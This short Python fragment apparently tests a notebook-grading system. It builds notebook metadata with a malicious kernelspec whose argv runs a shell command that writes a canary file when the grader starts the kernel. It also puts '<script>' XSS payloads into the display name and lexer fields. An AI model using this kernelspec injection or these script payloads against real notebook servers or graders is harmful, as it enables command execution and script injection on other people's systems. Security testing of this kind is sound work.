"""Names a kernel, a language and a provisioner of its own in the notebook's metadata, to be started by the grader."""

# %% hand in
program = ["/bin/sh", "-c", f"echo kernel > {target.canary}"]
notebook["metadata"] = {
    "kernelspec": {"name": "evil", "language": "bash", "display_name": "<script>pwned=1</script>", "argv": program,
                   "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}}},
    "language_info": {"name": "script", "pygments_lexer": "<script>pwned=1</script>", "mimetype": "text/html"},
}
